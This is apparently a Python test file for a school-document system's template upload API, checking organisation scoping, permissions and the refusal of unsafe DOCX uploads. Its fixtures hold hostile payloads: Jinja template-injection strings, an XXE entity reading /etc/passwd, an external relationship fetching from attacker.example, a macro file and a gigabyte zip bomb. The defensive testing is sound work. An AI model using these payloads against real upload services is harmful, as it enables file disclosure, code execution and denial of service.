"""POST/GET /api/v1/templates: a valid upload is used for that organisation's documents; every
refusal is a 422 with the right code and a message naming the problem; 413, 403, 404."""

from __future__ import annotations

import io
import time
import zipfile

import pytest

from tests.documents.test_docx_validate import base_docx, deflated_zeros, raw_zip, rezip
from tests.workflow.test_templates import custom_template, docx_text
from workflow.files import templates


def upload(client, org_id, data: bytes, kind: str = "order", filename: str = "шаблон.docx"):
    return client.post("/api/v1/templates",
                       data={"kind": kind, "org_id": str(org_id),
                             "file": (io.BytesIO(data), filename)},
                       content_type="multipart/form-data")


def create_order(api, world, org="school1", author="admin1"):
    resp = api.as_(author).post("/api/v1/documents", json={
        "kind": "order", "org_id": world.orgs[org], "title": "О наставничестве",
        "fields": {"preamble": "В целях внедрения", "clauses": [
            {"text": "Назначить куратора.", "executor": "Директор", "term": "до 01.12.2026"}]}})
    assert resp.status_code == 201, resp.get_json()
    return resp.get_json()["id"]


def docx_of(api, doc_id, user="admin1") -> str:
    resp = api.as_(user).get(f"/api/v1/documents/{doc_id}/docx")
    assert resp.status_code == 200, resp.get_json()
    return docx_text(resp.data)


def test_valid_upload_is_201_and_renders_that_schools_documents(api, world):
    resp = upload(api.as_("sysadmin"), world.orgs["school1"],
                  custom_template("order", "МАРКЕР-ШКОЛЫ-1"))
    assert resp.status_code == 201, resp.get_json()
    body = resp.get_json()
    assert set(body) == {"id", "kind", "org_id", "sha256", "variables"}
    assert body["kind"] == "order" and body["org_id"] == world.orgs["school1"]
    assert len(body["sha256"]) == 64
    assert {"org", "title", "doc", "clauses", "signer", "kind_title"} <= set(body["variables"])

    own = docx_of(api, create_order(api, world))
    assert "МАРКЕР-ШКОЛЫ-1" in own and "Назначить куратора." in own
    other = docx_of(api, create_order(api, world, "school2", "admin2"), "admin2")
    assert "МАРКЕР-ШКОЛЫ-1" not in other and "ПРИКАЗЫВАЮ" in other

    listed = api.as_("director1").get(
        f"/api/v1/templates?kind=order&org_id={world.orgs['school1']}").get_json()
    assert [(t["id"], t["builtin"], t["filename"]) for t in listed] == \
        [(body["id"], False, "шаблон.docx")]
    assert set(listed[0]) == {"id", "kind", "org_id", "sha256", "variables", "builtin",
                              "filename", "created_at"}
    assert listed[0]["created_at"].endswith("Z")


def test_municipality_admins_template_applies_to_its_schools(api, world):
    resp = upload(api.as_("sysadmin"), world.orgs["muni"], custom_template("order", "МУНИЦИПАЛ"))
    assert resp.status_code == 201, resp.get_json()
    assert "МУНИЦИПАЛ" in docx_of(api, create_order(api, world))
    assert "МУНИЦИПАЛ" in docx_of(api, create_order(api, world, "school2", "admin2"), "admin2")
    assert "МУНИЦИПАЛ" not in docx_of(api, create_order(api, world, "school3", "admin3"),
                                      "admin3")


def test_list_without_uploads_is_the_builtin_templates(api, world):
    resp = api.as_("curator1").get(f"/api/v1/templates?org_id={world.orgs['school1']}")
    assert resp.status_code == 200
    items = resp.get_json()
    assert len(items) == 7 and all(t["builtin"] and t["id"] is None for t in items)
    assert {t["kind"] for t in items} >= {"order", "regulation", "roadmap", "pair_order"}
    assert api.as_("curator1").get("/api/v1/templates?kind=memo").status_code == 400


def _docm() -> bytes:
    return rezip(base_docx(), add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"})


def _dtd() -> bytes:
    base = base_docx()
    xml = zipfile.ZipFile(io.BytesIO(base)).read("word/document.xml")
    end = xml.index(b"?>") + 2
    evil = xml[:end] + b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + xml[end:]
    return rezip(base, {"word/document.xml": evil})


def _external() -> bytes:
    base = base_docx()
    rels = zipfile.ZipFile(io.BytesIO(base)).read("word/_rels/document.xml.rels").replace(
        b"</Relationships>",
        b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/'
        b'2006/relationships/attachedTemplate" Target="http://attacker.example/t.dotm" '
        b'TargetMode="External"/></Relationships>')
    return rezip(base, {"word/_rels/document.xml.rels": rels})


REFUSALS = [
    ("unknown_variable", lambda: base_docx("{{ doc.number }} {{ pupil_passport }}"),
     "template_invalid", "pupil_passport"),
    ("ssti", lambda: base_docx("{{ cycler.__init__.__globals__ }}"), "template_unsafe",
     "__init__|__globals__|недопустим"),
    ("ssti_subclasses", lambda: base_docx("{{ ''.__class__.__mro__[1].__subclasses__() }}"),
     "template_unsafe", "__class__|__mro__|__subclasses__|недопустим"),
    ("docm_macros", _docm, "template_invalid", "макрос"),
    ("dtd", _dtd, "template_invalid", "DTD"),
    ("external_relationship", _external, "template_invalid", "attacker.example"),
    ("not_a_docx", lambda: b"%PDF-1.7 this is not a docx", "template_invalid",
     "не является документом DOCX"),
    ("too_many_members",
     lambda: rezip(base_docx(), add={f"customXml/x{i}.xml": b"<a/>" for i in range(1001)}),
     "template_invalid", "слишком много файлов"),
]


@pytest.mark.parametrize("name,make,code,pattern", REFUSALS, ids=[r[0] for r in REFUSALS])
def test_refusals_are_422_with_code_and_message(api, world, name, make, code, pattern):
    import re

    resp = upload(api.as_("sysadmin"), world.orgs["school1"], make())
    assert resp.status_code == 422, resp.get_json()
    error = resp.get_json()["error"]
    assert error["code"] == code, error
    assert re.search(pattern, error["message"]), error["message"]
    listed = api.as_("sysadmin").get(
        f"/api/v1/templates?kind=order&org_id={world.orgs['school1']}").get_json()
    assert listed[0]["builtin"], "a refused template must not be stored"


def test_gigabyte_zip_bomb_is_refused_in_under_a_second(api, world):
    size = 1 << 30
    bomb = raw_zip("word/document.xml", deflated_zeros(size), size, 0)
    start = time.perf_counter()
    resp = upload(api.as_("sysadmin"), world.orgs["school1"], bomb)
    elapsed = time.perf_counter() - start
    assert resp.status_code == 422 and resp.get_json()["error"]["code"] == "template_invalid"
    assert "МБ" in resp.get_json()["error"]["message"] or \
        "сжатия" in resp.get_json()["error"]["message"]
    assert elapsed < 1.0


def test_oversize_upload_is_413(api, world):
    data = b"PK" + bytes(templates.MAX_TEMPLATE_BYTES)
    resp = upload(api.as_("sysadmin"), world.orgs["school1"], data)
    assert resp.status_code == 413
    error = resp.get_json()["error"]
    assert error["code"] == "template_too_large" and "10 МБ" in error["message"]


def test_bad_requests_are_400(api, world):
    client = api.as_("sysadmin")
    resp = client.post("/api/v1/templates", data={"kind": "order",
                                                  "org_id": str(world.orgs["school1"])},
                       content_type="multipart/form-data")
    assert resp.status_code == 400 and resp.get_json()["error"]["code"] == "missing_file"
    resp = upload(client, "abc", custom_template())
    assert resp.status_code == 400
    resp = upload(client, world.orgs["school1"], custom_template(), kind="memo")
    assert resp.status_code == 400 and "memo" in resp.get_json()["error"]["message"]


@pytest.mark.parametrize("user", ["admin1", "director1", "curator1", "officer", "auditor"])
def test_non_admins_get_403(api, world, user):
    resp = upload(api.as_(user), world.orgs["school1"], custom_template())
    assert resp.status_code == 403 and resp.get_json()["error"]["code"] == "templates_not_allowed"


@pytest.mark.parametrize("user,org", [("sysadmin", "school3"), ("sysadmin", "muni2"),
                                      ("admin3", "school1"), ("head", "school1")])
def test_foreign_org_is_404(api, world, user, org):
    resp = upload(api.as_(user), world.orgs[org], custom_template())
    assert resp.status_code == 404
    resp = api.as_(user).get(f"/api/v1/templates?org_id={world.orgs[org]}")
    assert resp.status_code == 404


def test_anonymous_is_401(client, world):
    resp = upload(client, world.orgs["school1"], custom_template())
    assert resp.status_code == 401
    assert client.get("/api/v1/templates").status_code == 401
